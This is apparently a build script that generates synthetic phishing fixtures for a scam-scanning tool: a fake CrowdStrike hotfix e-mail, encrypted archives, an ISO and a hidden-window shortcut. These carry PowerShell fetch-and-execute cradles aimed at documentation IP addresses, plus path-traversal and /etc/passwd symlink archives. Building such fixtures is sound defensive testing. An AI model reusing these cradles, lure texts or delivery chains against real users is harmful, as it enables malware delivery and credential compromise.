#!/usr/bin/env python3
"""Build the synthetic e-mail and archive samples (issue 4: mail, URLs, archives).

Harmless like every scamscan sample: scripts only name documentation addresses
(RFC 5737 IPs, `.example`/`.invalid` names) that serve nothing, and no executable
is real.  Deterministic: MIME is written from templates with fixed boundaries; the
randomness in AES ZIP (pyzipper), 7z (py7zr) and ISO (pycdlib) writers, and their
clocks, are pinned while they write.

    python samples/build_mail.py           # (re)write the samples
    python samples/build_mail.py --check   # exit 1 if a rebuild would change a file

Needs (build time only): pyzipper, py7zr, pycdlib, extract-msg (for its OLE writer,
to build the .msg) and pylnk3 (to write the .lnk shortcut).
"""

from __future__ import annotations

import base64
import bz2
import contextlib
import hashlib
import io
import lzma
import sys
import tarfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from unittest import mock

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import sampleio  # noqa: E402
from build import MARK, make_gzip, make_zip, make_zipcrypto_zip  # noqa: E402
from mail_templates import build_messages  # noqa: E402

EPOCH = 1721362140.0  # 2024-07-19 04:09 UTC, as in build.py
CRADLE = ("# Falcon sensor hotfix installer\r\n"
          f"# {MARK}\r\n"
          "iwr http://203.0.113.7/falcon/fix.ps1 -UseBasicParsing | iex\r\n").encode()
TEAMS_CRADLE = ("# Microsoft Teams update\r\n"
                f"# {MARK}\r\n"
                "Invoke-WebRequest http://198.51.100.23/teams/update.ps1 | Invoke-Expression\r\n").encode()
README = f"Falcon recovery media - run 'Falcon Recovery' to repair the sensor.\r\n({MARK})\r\n".encode()


class _Det:
    """Deterministic stand-in for a random source (pinned while archive writers run)."""

    def __init__(self, seed: bytes) -> None:
        self.state = seed

    def read(self, n: int) -> bytes:
        out = b""
        while len(out) < n:
            self.state = hashlib.sha256(self.state).digest()
            out += self.state
        return out[:n]


@contextlib.contextmanager
def pinned(seed: bytes) -> Iterator[None]:
    det = _Det(seed)
    with contextlib.ExitStack() as stack:
        stack.enter_context(mock.patch("time.time", lambda: EPOCH))
        import py7zr.compressor as comp
        import pyzipper.zipfile_aes as aes
        stack.enter_context(mock.patch.object(aes, "Random", mock.Mock(new=lambda: det)))
        stack.enter_context(mock.patch.object(comp, "get_random_bytes", det.read))
        yield


def aes_zip(members: list[tuple[str, bytes]], password: bytes) -> bytes:
    import pyzipper
    buf = io.BytesIO()
    with pinned(b"aes" + password), pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED,
                                                           encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(password)
        for name, data in members:
            info = zf.zipinfo_cls(name, date_time=(2024, 7, 19, 4, 9, 0))
            info.compress_type = pyzipper.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


def seven_zip(members: list[tuple[str, bytes]], password: str | None = None, encrypt_headers: bool = False) -> bytes:
    import py7zr
    buf = io.BytesIO()
    with pinned(b"7z" + (password or "").encode()), py7zr.SevenZipFile(
            buf, "w", password=password, header_encryption=encrypt_headers) as zf:
        for name, data in members:
            zf.writestr(data, name)
    return buf.getvalue()


def tar(members: list[tuple[str, bytes]], links: list[tuple[str, str]] = ()) -> bytes:  # type: ignore[assignment]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode, info.uname, info.gname = len(data), int(EPOCH), 0o644, "user", "user"
            tf.addfile(info, io.BytesIO(data))
        for name, target in links:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mtime = tarfile.SYMTYPE, target, int(EPOCH)
            tf.addfile(info)
    return buf.getvalue()


def lnk(target: str, arguments: str, description: str) -> bytes:
    import pylnk3
    link = pylnk3.for_file(target, arguments=arguments, description=description,
                           icon_file=r"C:\Windows\System32\shell32.dll", icon_index=238,
                           work_dir=r"C:\Windows\Temp", window_mode=pylnk3.WINDOW_MINIMIZED)
    stamp = datetime.fromtimestamp(EPOCH, tz=UTC).replace(tzinfo=None)
    link.creation_time = link.access_time = link.modification_time = stamp
    for entry in link.shell_item_id_list.items:
        for key in ("created", "modified", "accessed"):
            if hasattr(entry, key):
                setattr(entry, key, stamp)
    buf = io.BytesIO()
    link.write(buf)
    return buf.getvalue()


def iso(files: list[tuple[str, bytes]]) -> bytes:
    import pycdlib
    with pinned(b"iso"):
        image = pycdlib.PyCdlib()
        image.new(interchange_level=3, joliet=3, vol_ident="FALCON_RECOVERY")
        for n, (name, data) in enumerate(files):
            image.add_fp(io.BytesIO(data), len(data), f"/FILE{n}.BIN;1", joliet_path=f"/{name}")
        buf = io.BytesIO()
        image.write_fp(buf)
        image.close()
    return buf.getvalue()


def msg(subject: str, sender_name: str, sender: str, body: str, headers: str,
        attachments: list[tuple[str, bytes]]) -> bytes:
    """An Outlook .msg ([MS-OXMSG]) written with extract-msg's OLE writer."""
    from extract_msg.ole_writer import OleWriter

    def u(text: str) -> bytes:
        return text.encode("utf-16-le")

    w = OleWriter()
    header = bytes(8) + (len(attachments)).to_bytes(4, "little") * 2 + (0).to_bytes(4, "little") + \
        len(attachments).to_bytes(4, "little") + bytes(8)
    w.addEntry("__properties_version1.0", header)
    w.addEntry("__nameid_version1.0", storage=True)
    for stream in ("__substg1.0_00020102", "__substg1.0_00030102", "__substg1.0_00040102"):
        w.addEntry(f"__nameid_version1.0/{stream}", b"")
    for prop, value in (("001A001F", "IPM.Note"), ("0037001F", subject), ("0C1A001F", sender_name),
                        ("0C1F001F", sender), ("1000001F", body), ("007D001F", headers),
                        ("0E1D001F", subject)):
        w.addEntry(f"__substg1.0_{prop}", u(value))
    for n, (name, data) in enumerate(attachments):
        root = f"__attach_version1.0_#{n:08X}"
        w.addEntry(root, storage=True)
        method = (0x37050003).to_bytes(4, "little") + (6).to_bytes(4, "little") + (1).to_bytes(4, "little") + bytes(4)
        w.addEntry(f"{root}/__properties_version1.0", bytes(8) + method)
        w.addEntry(f"{root}/__substg1.0_3707001F", u(name))
        w.addEntry(f"{root}/__substg1.0_3704001F", u(name[:12]))
        w.addEntry(f"{root}/__substg1.0_37010102", data)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")


def eml(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def build() -> dict[str, bytes]:
    s: dict[str, bytes] = {}
    hotfix_zip = make_zipcrypto_zip([("install.ps1", CRADLE), ("README.txt", README)], b"Falcon2024")
    teams_zip = aes_zip([("TeamsUpdate.ps1", TEAMS_CRADLE)], b"Upd-7731")
    sensor_7z = seven_zip([("sensor_update.ps1", CRADLE)], password="cs-fix-0719")
    shortcut = lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                   "-w hidden -ep bypass -c \"iwr http://203.0.113.7/falcon/recovery.ps1 | iex\"",
                   "CrowdStrike Falcon Recovery")
    tools: dict[str, Any] = {"b64": b64, "eml": eml, "hotfix_zip": hotfix_zip, "teams_zip": teams_zip,
                             "sensor_7z": sensor_7z, "make_zip": make_zip}
    s.update(build_messages(tools))
    s["lures/mail/falcon_update.msg"] = msg(
        "URGENT: CrowdStrike Falcon hotfix - install today", "CrowdStrike Support",
        "support@crowdstrike-fix.com",
        "Dear customer,\r\n\r\nYour hosts are affected by the Falcon sensor crash. Install the attached hotfix "
        "immediately.\r\nOpen the attached archive and run install.ps1 as administrator.\r\n"
        "The archive password is: Falcon2024\r\n\r\nCrowdStrike Support\r\n",
        "From: \"CrowdStrike Support\" <support@crowdstrike-fix.com>\r\nTo: it@example.com\r\n"
        "Subject: URGENT: CrowdStrike Falcon hotfix - install today\r\n"
        "Reply-To: falcon-desk@mail-relay.example\r\n\r\n",
        [("falcon_hotfix.zip", hotfix_zip)])
    cradle_tar = tar([("hotfix/install.ps1", CRADLE), ("hotfix/README.txt", README)])
    s["lures/archives/falcon_sensor_update.7z"] = seven_zip([("sensor_update.ps1", CRADLE),
                                                             ("README.txt", README)])
    s["lures/archives/hotfix.tar.gz"] = make_gzip("hotfix.tar", cradle_tar)
    s["lures/archives/hotfix.tar.bz2"] = bz2.compress(cradle_tar, 9)
    s["lures/archives/hotfix.tar.xz"] = lzma.compress(cradle_tar, preset=6)
    s["lures/archives/falcon_recovery.lnk"] = shortcut
    s["lures/archives/falcon_recovery.iso"] = iso([("Falcon Recovery.lnk", shortcut), ("README.txt", README)])
    s["bad/mail/encrypted_no_password.7z"] = seven_zip([("secret.txt", README)], password="nobody-knows",
                                                       encrypt_headers=True)
    s["bad/mail/traversal.zip"] = make_zip([("../../Windows/System32/evil.txt", README),
                                            ("/etc/cron.d/update", README), ("ok.txt", README)])
    s["bad/mail/traversal_symlink.tar"] = tar([("readme.txt", README)],
                                              [("link_to_passwd", "/etc/passwd"), ("up", "../../outside")])
    return s


def main(argv: list[str] | None = None) -> int:
    return sampleio.main(build, HERE, __doc__ or "", argv)


if __name__ == "__main__":
    sys.exit(main())
